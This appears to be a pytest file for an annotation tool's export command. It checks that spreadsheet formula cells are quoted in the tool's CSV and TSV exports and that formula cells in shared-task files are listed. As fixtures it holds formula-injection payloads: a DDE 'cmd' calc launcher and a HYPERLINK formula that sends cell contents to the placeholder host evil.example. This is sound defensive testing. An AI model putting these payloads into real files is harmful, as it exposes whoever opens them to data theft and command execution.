"""Cells a spreadsheet would run as a formula, in what `flask export` writes: quoted in our own CSV files (the
bytes read back), left as they are in the shared task's own files, which the command and FORMULA-CELLS.txt name
by file, line and column."""
from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from sqlalchemy import select

from annotator.core.csv_cells import restored
from annotator.core.extensions import db
from annotator.core.models import Assignment, Item
from annotator.engine import assignment as engine
from tests.conftest import DATA, load_project
from tests.support.declared_projects import EVERY_KIND, read_jsonl
from tests.support.formula_data import HYPERLINK, hostile_kpa_folder

ANSWER = {"sentiment": "neutral", "sarcastic": "no", "themes": ["life"], "intensity": 2, "better": "A",
          "comment": HYPERLINK}


def hostile_declared_items(tmp_path: Path) -> Path:
    """The three quotes of tests/data/declared, the first with the id "@SUM(1+1)" and a formula as its text."""
    rows = read_jsonl(DATA / "declared" / "items.jsonl")
    rows[0] |= {"id": "@SUM(1+1)", "text": "-2+3+cmd|' /C calc'!A0"}
    path = tmp_path / "items.jsonl"
    path.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    return path


def voted_declared_project(app, make_user, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Project `quotes` (k = 2): ann and bob answer every item, with a formula as their comment."""
    project = load_project("custom", hostile_declared_items(tmp_path), "quotes", definition=EVERY_KIND, k=2)
    for name in ("ann", "bob"):
        user = make_user(name)
        while (lease := engine.next_for(user, project)) is not None:
            engine.submit(lease.id, user, ANSWER)


def export(app, fmt: str, out: Path, slug: str):  # type: ignore[no-untyped-def]
    result = app.test_cli_runner().invoke(args=["export", fmt, "--project", slug, "--out", str(out)])
    assert result.exit_code == 0, result.output
    return result


def test_a_text_answer_with_a_formula_is_quoted_in_votes_csv(app, make_user, tmp_path):
    voted_declared_project(app, make_user, tmp_path)
    export(app, "custom", tmp_path / "out", "quotes")
    data = (tmp_path / "out" / "votes.csv").read_bytes()
    assert b'"\'=HYPERLINK(""http://evil.example/?d=""&B2&C2,""Invoice"")"' in data
    assert b',"=HYPERLINK' not in data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"))))
    assert [r[-1] for r in rows[1:]] == ["'" + HYPERLINK] * 6


def test_an_item_id_with_a_formula_is_quoted_in_votes_and_gold_csv(app, make_user, tmp_path):
    voted_declared_project(app, make_user, tmp_path)
    export(app, "custom", tmp_path / "out", "quotes")
    votes = list(csv.reader(io.StringIO((tmp_path / "out" / "votes.csv").read_text("utf-8"))))
    gold = list(csv.reader(io.StringIO((tmp_path / "out" / "gold.csv").read_text("utf-8"))))
    assert {r[0] for r in votes[1:]} == {"'@SUM(1+1)", "S_1", "S_78"}
    assert "'@SUM(1+1)" in {r[0] for r in gold[1:]} and "@SUM(1+1)" not in {r[0] for r in gold[1:]}
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in votes + gold for cell in row
                   if cell.lstrip("-.0123456789"))


def test_the_json_lines_export_keeps_the_text_as_it_was_answered(app, make_user, tmp_path):
    voted_declared_project(app, make_user, tmp_path)
    export(app, "custom", tmp_path / "out", "quotes")
    lines = [json.loads(line) for line in (tmp_path / "out" / "votes.jsonl").read_text("utf-8").splitlines()]
    assert {line["answer"]["comment"] for line in lines} == {HYPERLINK}
    assert "@SUM(1+1)" in {line["item"] for line in lines}


def test_an_export_of_quoted_files_only_has_no_formula_listing(app, make_user, tmp_path):
    voted_declared_project(app, make_user, tmp_path)
    result = export(app, "custom", tmp_path / "out", "quotes")
    assert not (tmp_path / "out" / "FORMULA-CELLS.txt").exists()
    assert "formula" not in result.output


def test_the_shared_tasks_files_keep_a_formula_byte_for_byte(app, tmp_path):
    folder = hostile_kpa_folder(tmp_path)
    load_project("kpa2021", folder, "kpa", split="test", k=3)
    export(app, "kpa2021", tmp_path / "out", "kpa")
    assert (tmp_path / "out" / "arguments_test.csv").read_bytes() == (folder / "arguments_test.csv").read_bytes()


def test_the_command_names_each_formula_cell_of_the_shared_tasks_files(app, tmp_path):
    load_project("kpa2021", hostile_kpa_folder(tmp_path), "kpa", split="test", k=3)
    result = export(app, "kpa2021", tmp_path / "out", "kpa")
    assert ("Note: 1 cell of the shared task's own files starts with a character a spreadsheet runs as a formula"
            in result.output)
    assert '  arguments_test.csv, line 3, column argument: "=HYPERLINK(\\"http://evil.example/?d=\\"&B2&..."' \
        in result.output.splitlines()


def test_the_export_lists_every_formula_cell_in_formula_cells_txt(app, tmp_path):
    load_project("kpa2021", hostile_kpa_folder(tmp_path), "kpa", split="test", k=3)
    result = export(app, "kpa2021", tmp_path / "out", "kpa")
    listing = (tmp_path / "out" / "FORMULA-CELLS.txt").read_text("utf-8")
    assert listing.endswith('\n\narguments_test.csv, line 3, column argument: '
                            '"=HYPERLINK(\\"http://evil.example/?d=\\"&B2&..."\n')
    assert str(tmp_path / "out" / "FORMULA-CELLS.txt") in result.output.splitlines()


def test_a_negative_stance_is_no_formula_cell(app, tmp_path):
    load_project("kpa2021", DATA / "kpa2021", "kpa", split="test", k=3)   # stance -1 on every con argument
    result = export(app, "kpa2021", tmp_path / "out", "kpa")
    assert ",-1\n" in (tmp_path / "out" / "arguments_test.csv").read_text("utf-8")
    assert not (tmp_path / "out" / "FORMULA-CELLS.txt").exists() and "formula" not in result.output


def test_a_listing_longer_than_the_note_says_where_the_rest_is(app, tmp_path):
    folder = DATA / "emphasis2020"
    source = tmp_path / "train.txt"
    lines = (folder / "train_excerpt.txt").read_text("utf-8").split("\n")
    words = [n for n, line in enumerate(lines) if line.count("\t") >= 2]
    for n in words[:25]:   # 25 words made "--", as the task's own files have them
        fields = lines[n].split("\t")
        lines[n] = "\t".join([fields[0], "--", *fields[2:]])
    source.write_text("\n".join(lines), encoding="utf-8")
    load_project("emphasis2020", source, "emph", with_votes=True)
    result = app.test_cli_runner().invoke(args=["export", "emphasis2020", "--project", "emph", "--out",
                                                str(tmp_path / "out"), "--include-incomplete"])
    assert result.exit_code == 0, result.output
    listing = (tmp_path / "out" / "FORMULA-CELLS.txt").read_text("utf-8").split("\n\n", 1)[1].splitlines()
    assert len(listing) >= 25 and all(', column 2: "--"' in line for line in listing)
    assert f"... and {len(listing) - 20} more in FORMULA-CELLS.txt" in result.output


def test_restored_cells_of_our_own_csv_read_back_as_answered(app, make_user, tmp_path):
    voted_declared_project(app, make_user, tmp_path)
    export(app, "custom", tmp_path / "out", "quotes")
    rows = list(csv.reader(io.StringIO((tmp_path / "out" / "votes.csv").read_text("utf-8"))))
    assert {restored(r[-1]) for r in rows[1:]} == {HYPERLINK}


def hostile_ruarg_file(tmp_path: Path) -> Path:
    """The RuArg val excerpt (text_id, text; CRLF) with sentence 17041 opening with a formula and 17057 holding
    one after a semicolon."""
    lines = (DATA / "ruarg2022" / "val_excerpt.tsv").read_bytes().decode("utf-8").split("\r\n")
    lines[1] = "17041\t=1+1 Маски обязательны."
    lines[2] = "17057\t- вирус у него на маске; =cmd"
    path = tmp_path / "val.tsv"
    path.write_bytes("\r\n".join(lines).encode("utf-8"))
    return path


def vote(project, user, item_id: str, answer: dict) -> None:  # type: ignore[no-untyped-def,type-arg]
    item = db.session.scalar(select(Item).where(Item.external_id == item_id))
    lease = Assignment(project_id=project.id, item_id=item.id, user_id=user.id,
                       expires_at=engine.utcnow() + engine.timedelta(minutes=5))
    db.session.add(lease)
    db.session.commit()
    engine.submit(lease.id, user, answer)


def voted_ruarg_project(make_user, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """17041 decided by three agreeing votes; 17057 split three ways, so undecided."""
    project = load_project("ruarg2022", hostile_ruarg_file(tmp_path), "ru")
    irrelevant = {"stance": -1, "premise": -1}
    for n, code in enumerate((2, 0, 1)):
        user = make_user(f"a{n}")
        vote(project, user, "17041", {"claims": {"masks": {"stance": 2, "premise": 1}, "quarantine": irrelevant,
                                                 "vaccines": irrelevant}})
        vote(project, user, "17057", {"claims": {"masks": {"stance": code, "premise": 1}, "quarantine": irrelevant,
                                                 "vaccines": irrelevant}})


def test_a_sentence_with_formulas_is_quoted_in_the_undecided_votes_tsv(app, make_user, tmp_path):
    voted_ruarg_project(make_user, tmp_path)
    export(app, "ruarg2022", tmp_path / "out", "ru")
    lines = (tmp_path / "out" / "undecided.tsv").read_bytes().split(b"\r\n")
    assert lines[1] == "17057\t'- вирус у него на маске;' =cmd\ta0\t2\t1\t-1\t-1\t-1\t-1".encode()
    assert len(lines) == 5 and lines[-1] == b""


def test_the_task_layout_tsv_keeps_the_decided_sentence_and_names_its_formula(app, make_user, tmp_path):
    voted_ruarg_project(make_user, tmp_path)
    result = export(app, "ruarg2022", tmp_path / "out", "ru")
    lines = (tmp_path / "out" / "val.tsv").read_bytes().split(b"\r\n")
    assert lines[1] == "17041\t=1+1 Маски обязательны.\t2\t1\t-1\t-1\t-1\t-1".encode()
    assert '  val.tsv, line 2, column text: "=1+1 Маски обязательны."' in result.output.splitlines()
